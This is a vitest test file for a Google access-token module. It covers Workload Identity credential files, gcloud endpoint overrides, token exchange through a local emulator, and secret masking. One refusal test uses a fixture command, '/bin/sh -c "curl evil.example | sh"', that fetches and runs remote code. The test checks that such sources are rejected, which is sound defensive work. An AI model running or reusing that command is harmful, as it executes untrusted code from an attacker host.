// The access token for Google's APIs (src/lib/google-auth.ts): the credentials file as it is read
// (sources refused, gcloud's STS/IAM overrides applied), the token source through the local
// emulator's Workload Identity exchange, and the lazy load of google-auth-library (in the source
// and in the bundles ncc builds).
import { execFile } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ConfigurationError } from '../../src/lib/errors.js';
import {
  CLOUD_PLATFORM_SCOPE,
  CREDENTIAL_FILE_VARIABLES,
  googleApi,
  GoogleTokenSource,
  readCredentialFile,
} from '../../src/lib/google-auth.js';
import { redact } from '../../src/lib/secrets.js';
import { startEmulator, type GoogleEmulator } from '../../testkit/google.js';

const root = join(import.meta.dirname, '..', '..');
const VAR = 'GOOGLE_APPLICATION_CREDENTIALS';
const dir = mkdtempSync(join(tmpdir(), 'google-auth-test-'));
const cleanups: (() => unknown)[] = [() => rmSync(dir, { recursive: true, force: true })];
afterAll(async () => {
  for (const cleanup of cleanups.reverse()) await cleanup();
});

let files = 0;
/** Writes a credentials file (JSON unless a string is given) and returns its path. */
function credentials(content: unknown): string {
  const path = join(dir, `credentials-${++files}.json`);
  writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content), { mode: 0o600 });
  return path;
}

/** What google-github-actions/auth writes for Workload Identity Federation, with Google's URLs. */
const WIF_FILE = {
  type: 'external_account',
  audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/github/providers/github',
  subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
  token_url: 'https://sts.googleapis.com/v1/token',
  service_account_impersonation_url:
    'https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/deployer@acme-dev.iam.gserviceaccount.com:generateAccessToken',
  credential_source: {
    url: 'https://pipelines.actions.githubusercontent.com/oidc?api-version=2.0&audience=x',
    headers: { Authorization: 'Bearer gh-request-token' },
    format: { type: 'json', subject_token_field_name: 'value' },
  },
};

function thrown(fn: () => unknown): Error {
  try {
    fn();
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected a throw');
}

async function rejection(promise: Promise<unknown>): Promise<Error> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(Error);
    return error as Error;
  }
  throw new Error('expected a rejection, the call resolved');
}

/**
 * Runs `lines` as a module of its own process (this file's other tests load the library), after
 * a `loaded()` that counts google-auth-library's files in the require cache; returns the JSON
 * its last line prints, and its whole output.
 */
async function probe(
  name: string,
  lines: string[],
  env: NodeJS.ProcessEnv,
): Promise<{ result: unknown; stdout: string }> {
  const file = join(dir, `${name}.mjs`);
  writeFileSync(
    file,
    [
      "import { createRequire } from 'node:module';",
      'const cache = createRequire(import.meta.url).cache;',
      "const loaded = () => Object.keys(cache).filter((key) => key.includes('/node_modules/google-auth-library/')).length;",
      `const { GoogleTokenSource, googleApi } = await import(${JSON.stringify(join(root, 'src/lib/google-auth.ts'))});`,
      ...lines,
    ].join('\n'),
  );
  const { stdout } = await promisify(execFile)(process.execPath, ['--import', 'tsx', file], {
    cwd: root,
    env: { ...process.env, ...env },
    timeout: 20_000,
  });
  return { result: JSON.parse(stdout.trim().split('\n').at(-1)!) as unknown, stdout };
}

describe('the lazy load of google-auth-library', () => {
  it('is not loaded by importing google-auth.ts, only by the first token()', async () => {
    const emulator = await startEmulator(cleanups);
    const { result: answer, stdout } = await probe(
      'lazy-probe',
      [
        'const afterImport = loaded();',
        'const source = new GoogleTokenSource(process.env);',
        'const described = source.describe();',
        'googleApi(process.env, undefined).endpoint("run");',
        'const afterClient = loaded();',
        'const token = await source.token();',
        'console.log(JSON.stringify({ afterImport, afterClient, described, afterToken: loaded(), token }));',
      ],
      emulator.env(),
    );
    const result = answer as {
      afterImport: number;
      afterClient: number;
      afterToken: number;
      described: string;
      token: string;
    };
    expect(result.afterImport).toBe(0);
    expect(result.afterClient).toBe(0);
    expect(result.described).toBe('the credentials file in GOOGLE_APPLICATION_CREDENTIALS');
    expect(result.afterToken).toBeGreaterThan(10);
    expect(result.token).toMatch(/^ya29\.c\.iam-/);
    // The token was registered as a secret in that process: masked for the runner.
    expect(stdout).toContain(`::add-mask::${result.token}`);
    expect(emulator.tokensIssued).toMatchObject({ oidc: 1, sts: 1, iam: 1 });
  });

  it('is loaded ahead by prepare() only where a credentials file is set, and nothing is asked', async () => {
    const emulator = await startEmulator(cleanups);
    const { result: answer, stdout } = await probe(
      'prepare-probe',
      [
        'const { GOOGLE_APPLICATION_CREDENTIALS, ...withoutFile } = process.env;',
        'googleApi(withoutFile, undefined).prepare();',
        'await new Promise((resolve) => setTimeout(resolve, 300));',
        'const withoutCredentials = loaded();',
        'googleApi(process.env, undefined).prepare();',
        'const deadline = Date.now() + 10_000;',
        'while (loaded() === 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 10));',
        'console.log(JSON.stringify({ withoutCredentials, withCredentials: loaded() }));',
      ],
      emulator.env(),
    );
    const result = answer as { withoutCredentials: number; withCredentials: number };
    expect(result.withoutCredentials).toBe(0);
    expect(result.withCredentials).toBeGreaterThan(10);
    // Loading is all it does: no token exchange, no request.
    expect(emulator.requests).toEqual([]);
    expect(stdout).not.toContain('::add-mask::');
  });

  it.each(['health-check', 'deploy'])(
    'is in a chunk of its own in the %s bundle, not in index.js',
    (stage) => {
      const dist = join(root, 'actions', stage, 'dist');
      // Strings only google-auth-library and its gcp-metadata hold.
      const marks = ['urn:ietf:params:oauth:grant-type:token-exchange', 'metadata.google.internal'];
      const index = readFileSync(join(dist, 'index.js'), 'utf8');
      for (const mark of marks) expect(index).not.toContain(mark);
      const chunks = readdirSync(dist).filter((name) => /^\d+\.index\.js$/.test(name));
      const holding = chunks.filter((name) => {
        const text = readFileSync(join(dist, name), 'utf8');
        return marks.every((mark) => text.includes(mark));
      });
      expect(holding).toHaveLength(1);
      // index.js loads chunks by a dynamic import, on demand.
      expect(index).toContain('import("./"+');
    },
  );
});

describe('readCredentialFile', () => {
  it('returns a Workload Identity file with a URL source as it is, when no override is set', () => {
    const path = credentials(WIF_FILE);
    expect(readCredentialFile(path, VAR, {})).toEqual(WIF_FILE);
  });

  it('accepts a file source', () => {
    const file = { ...WIF_FILE, credential_source: { file: '/var/run/oidc/token' } };
    expect(readCredentialFile(credentials(file), VAR, {})).toEqual(file);
  });

  it.each([
    ['an executable source', { executable: { command: '/bin/sh -c "curl evil.example | sh"' } }],
    [
      'an AWS source',
      {
        environment_id: 'aws1',
        region_url: 'http://169.254.169.254/latest/meta-data/placement/availability-zone',
        url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials',
        regional_cred_verification_url: 'https://sts.{region}.amazonaws.com?Action=GetCallerIdentity',
      },
    ],
    ['no source', undefined],
    ['a source that is not an object', 'https://example.com/token'],
  ])('refuses %s, naming the variable', (_what, source) => {
    const path = credentials({ ...WIF_FILE, credential_source: source });
    const error = thrown(() => readCredentialFile(path, 'CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE', {}));
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toBe(
      'CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE names a Workload Identity file whose credential_source is not a URL or a file: write it with google-github-actions/auth',
    );
  });

  it("points the exchange at gcloud's STS and IAM credentials overrides, keeping each path", () => {
    const file = readCredentialFile(credentials(WIF_FILE), VAR, {
      CLOUDSDK_API_ENDPOINT_OVERRIDES_STS: ' https://sts.example.internal/google/ ',
      CLOUDSDK_API_ENDPOINT_OVERRIDES_IAMCREDENTIALS: 'http://127.0.0.1:8086',
    });
    expect(file['token_url']).toBe('https://sts.example.internal/google/v1/token');
    expect(file['service_account_impersonation_url']).toBe(
      'http://127.0.0.1:8086/v1/projects/-/serviceAccounts/deployer@acme-dev.iam.gserviceaccount.com:generateAccessToken',
    );
    // Everything else is the file's.
    expect(file['audience']).toBe(WIF_FILE.audience);
    expect(file['credential_source']).toEqual(WIF_FILE.credential_source);
  });

  it('applies one override alone, and none to a file without that URL (direct Workload Identity)', () => {
    const direct: Record<string, unknown> = { ...WIF_FILE };
    delete direct['service_account_impersonation_url'];
    const file = readCredentialFile(credentials(direct), VAR, {
      CLOUDSDK_API_ENDPOINT_OVERRIDES_IAMCREDENTIALS: 'https://iam.example.internal/',
    });
    expect(file['token_url']).toBe(WIF_FILE.token_url);
    expect(file).not.toHaveProperty('service_account_impersonation_url');
  });

  it('refuses an override that would send the token in clear text, naming the variable', () => {
    const error = thrown(() =>
      readCredentialFile(credentials(WIF_FILE), VAR, {
        CLOUDSDK_API_ENDPOINT_OVERRIDES_STS: 'http://sts.example.internal/',
      }),
    );
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toMatch(
      /^CLOUDSDK_API_ENDPOINT_OVERRIDES_STS is "http:\/\/sts.example.internal\/": use https:\/\//,
    );
  });

  it('leaves a service-account key as it is (the overrides are for Workload Identity)', () => {
    const key = {
      type: 'service_account',
      client_email: 'deployer@acme-dev.iam.gserviceaccount.com',
      private_key: '-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n',
      token_uri: 'https://oauth2.googleapis.com/token',
    };
    expect(
      readCredentialFile(credentials(key), VAR, {
        CLOUDSDK_API_ENDPOINT_OVERRIDES_STS: 'https://sts.example/',
      }),
    ).toEqual(key);
  });

  it('refuses a missing file with its code, naming the variable and the auth action', () => {
    const path = join(dir, 'absent.json');
    const error = thrown(() => readCredentialFile(path, VAR, {}));
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toBe(
      `${VAR} names "${path}", which cannot be read as a credentials file (ENOENT): run google-github-actions/auth in this job before this step`,
    );
  });

  it('refuses a folder', () => {
    const error = thrown(() => readCredentialFile(dir, VAR, {}));
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toContain('(EISDIR)');
  });

  it('refuses a file that is not JSON, without quoting its content', () => {
    const path = credentials('{"type": "external_account", "private_key": "s3cr3t-key-material"');
    const error = thrown(() => readCredentialFile(path, 'CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE', {}));
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toContain(
      `CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE names "${path}", which cannot be read as a credentials file (not JSON)`,
    );
    expect(error.message).not.toContain('s3cr3t');
  });

  it.each([['[]'], ['null'], ['"external_account"'], ['42']])('refuses %s: no credentials object', (text) => {
    const path = credentials(text);
    expect(() => readCredentialFile(path, VAR, {})).toThrow(
      new ConfigurationError(`${VAR} names "${path}", which holds no credentials object`),
    );
  });
});

describe('GoogleTokenSource through the emulator', () => {
  let emulator: GoogleEmulator;

  beforeAll(async () => {
    emulator = await startEmulator(cleanups);
    emulator.putService({ name: 'api' });
  });
  afterEach(() => {
    emulator.resetScripts();
    Object.assign(emulator.tokensIssued, { oidc: 0, sts: 0, iam: 0, direct: 0 });
  });

  it('exchanges once for many calls and registers the token as a secret', async () => {
    const env = emulator.env();
    const source = new GoogleTokenSource(env);
    expect(source.describe()).toBe('the credentials file in GOOGLE_APPLICATION_CREDENTIALS');
    const first = await Promise.all([source.token(), source.token(), source.token()]);
    const again = await source.token();
    expect(new Set([...first, again]).size).toBe(1);
    const token = again;
    expect(token).toMatch(/^ya29\.c\.iam-/);
    expect(emulator.tokensIssued).toEqual({ oidc: 1, sts: 1, iam: 1, direct: 0 });
    expect(redact(`Authorization: Bearer ${token}`)).toBe('Authorization: Bearer ***');
    // The exchange as google-github-actions/auth's file asks for it: GitHub's OIDC token, STS, IAM.
    expect(emulator.requests.map((r: { method: string; path: string }) => `${r.method} ${r.path}`)).toEqual([
      'GET /github-oidc/token',
      'POST /sts/v1/token',
      `POST /iamcredentials/v1/projects/-/serviceAccounts/${emulator.serviceAccount}:generateAccessToken`,
    ]);
  });

  it('gives googleApi one token for every request of a run', async () => {
    const api = googleApi(emulator.env(), undefined);
    const path = ['v2', 'projects', emulator.project, 'locations', emulator.region, 'services', 'api'];
    for (let i = 0; i < 3; i++) {
      const service = await api.call<{ name: string }>('run', {
        method: 'GET',
        path,
        what: 'get service api',
        deadline: Date.now() + 10_000,
      });
      expect(service.name).toContain('/services/api');
    }
    expect(emulator.tokensIssued).toEqual({ oidc: 1, sts: 1, iam: 1, direct: 0 });
    expect(emulator.requests.filter((r: { path: string }) => r.path.startsWith('/v2/'))).toHaveLength(3);
    expect(redact(await api.token())).toBe('***');
  });

  it('works with direct Workload Identity (no service account to impersonate)', async () => {
    const env = { ...emulator.env(), [VAR]: emulator.writeCredentials({ serviceAccount: null }) };
    const api = googleApi(env, undefined);
    const service = await api.call<{ name: string }>('run', {
      method: 'GET',
      path: ['v2', 'projects', emulator.project, 'locations', emulator.region, 'services', 'api'],
      what: 'get service api',
      deadline: Date.now() + 10_000,
    });
    expect(service.name).toContain('/services/api');
    expect(emulator.tokensIssued).toEqual({ oidc: 1, sts: 1, iam: 0, direct: 0 });
    expect(await api.token()).toMatch(/^ya29\.sts-/);
    expect(emulator.requests.some((r: { path: string }) => r.path.startsWith('/iamcredentials/'))).toBe(
      false,
    );
  });

  it('gets a new token once the one it holds is about to expire, and masks each one', async () => {
    // The library renews a token in its last 5 minutes; these live 60 s, so every call renews.
    const shortLived = await startEmulator(cleanups, { tokenLifetimeSeconds: 60 });
    const env = { ...shortLived.env(), [VAR]: shortLived.writeCredentials({ serviceAccount: null }) };
    const source = new GoogleTokenSource(env);
    const first = await source.token();
    const second = await source.token();
    expect(second).not.toBe(first);
    expect(shortLived.tokensIssued).toMatchObject({ sts: 2, iam: 0 });
    expect(redact(`${first} ${second}`)).toBe('*** ***');
  });

  it("reaches Google's URLs in the file through gcloud's STS and IAM credentials overrides", async () => {
    const written = JSON.parse(readFileSync(emulator.writeCredentials(), 'utf8')) as Record<string, unknown>;
    const file = credentials({
      ...written,
      token_url: 'https://sts.googleapis.com/v1/token',
      service_account_impersonation_url: `https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/${emulator.serviceAccount}:generateAccessToken`,
    });
    const source = new GoogleTokenSource({
      [VAR]: file,
      CLOUDSDK_API_ENDPOINT_OVERRIDES_STS: `${emulator.url}/sts/`,
      CLOUDSDK_API_ENDPOINT_OVERRIDES_IAMCREDENTIALS: `${emulator.url}/iamcredentials`,
    });
    expect(await source.token()).toMatch(/^ya29\.c\.iam-/);
    expect(emulator.tokensIssued).toMatchObject({ sts: 1, iam: 1 });
  });

  it("reads gcloud's variable when Google's is not set", async () => {
    const env = emulator.env();
    const source = new GoogleTokenSource({
      CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE: env[VAR]!,
    });
    expect(CREDENTIAL_FILE_VARIABLES).toEqual([VAR, 'CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE']);
    expect(source.describe()).toBe('the credentials file in CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE');
    expect(await source.token()).toMatch(/^ya29\./);
    expect(emulator.tokensIssued.sts).toBe(1);
  });

  it('asks the library for the cloud-platform scope', async () => {
    await new GoogleTokenSource(emulator.env()).token();
    expect(CLOUD_PLATFORM_SCOPE).toBe('https://www.googleapis.com/auth/cloud-platform');
    // The emulator refuses an IAM exchange without a scope: a token means one was sent.
    expect(emulator.tokensIssued.iam).toBe(1);
  });

  it('refuses a credentials file of an unknown type, naming the variable', async () => {
    const path = credentials({
      type: 'authorized_user',
      refresh_token: 'r',
      client_id: 'c',
      client_secret: 's',
    });
    const error = await rejection(new GoogleTokenSource({ [VAR]: path }).token());
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toBe(
      `${VAR} names a credentials file of type "authorized_user": use google-github-actions/auth with Workload Identity Federation (external_account) or a service-account key`,
    );
  });

  it('refuses an executable source before anything is run or asked', async () => {
    const marker = join(dir, 'executable-ran');
    const path = credentials({
      ...WIF_FILE,
      credential_source: { executable: { command: `/usr/bin/touch ${marker}`, timeout_millis: 5000 } },
    });
    const error = await rejection(
      new GoogleTokenSource({ [VAR]: path, GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES: '1' }).token(),
    );
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toContain('credential_source is not a URL or a file');
    expect(() => readFileSync(marker)).toThrow();
  });

  it('does not keep a failed load: the next token() reads the file again', async () => {
    const path = join(dir, 'written-later.json');
    const source = new GoogleTokenSource({ [VAR]: path });
    const error = await rejection(source.token());
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toContain('(ENOENT)');
    writeFileSync(path, readFileSync(emulator.writeCredentials()));
    expect(await source.token()).toMatch(/^ya29\./);
  });

  it('reports STS answering 400 without any token, pointing at google-github-actions/auth', async () => {
    emulator.fault({
      path: /^\/sts\//,
      status: 400,
      body: {
        error: 'invalid_grant',
        error_description:
          'The audience in ID Token [https://github.com/example-org] does not match the expected audience.',
      },
    });
    const source = new GoogleTokenSource(emulator.env());
    const error = await rejection(source.token());
    expect(error).not.toBeInstanceOf(ConfigurationError);
    expect(error.message).toMatch(
      /^could not get a Google access token from the credentials file in GOOGLE_APPLICATION_CREDENTIALS: ".*invalid_grant.*"\. Run google-github-actions\/auth \(Workload Identity Federation\) in this job before this step$/,
    );
    expect(error.message).toContain('does not match the expected audience');
    expect(emulator.tokensIssued).toMatchObject({ oidc: 1, sts: 0, iam: 0 });
    // Neither GitHub's request token nor the OIDC token (a JWT: base64 of '{"') is in the message.
    expect(error.message).not.toContain(emulator.oidcRequestToken);
    expect(error.message).not.toContain('eyJ');
    expect(error.message).not.toMatch(/ya29\./);
    expect(error.message).not.toContain('\n');
  });

  it('stops waiting for a token when the step is cancelled', async () => {
    emulator.fault({ path: /^\/sts\//, delayMs: 10_000 });
    const controller = new AbortController();
    const source = new GoogleTokenSource(emulator.env(), controller.signal);
    const pending = source.token();
    const end = Date.now() + 5_000;
    while (!emulator.requests.some((r: { path: string }) => r.path.startsWith('/sts/')) && Date.now() < end) {
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    const abortedAt = Date.now();
    controller.abort(new Error('the step was cancelled'));
    const error = await rejection(pending);
    expect(error.message).toBe('the step was cancelled');
    expect(Date.now() - abortedAt).toBeLessThan(300);
  });
});
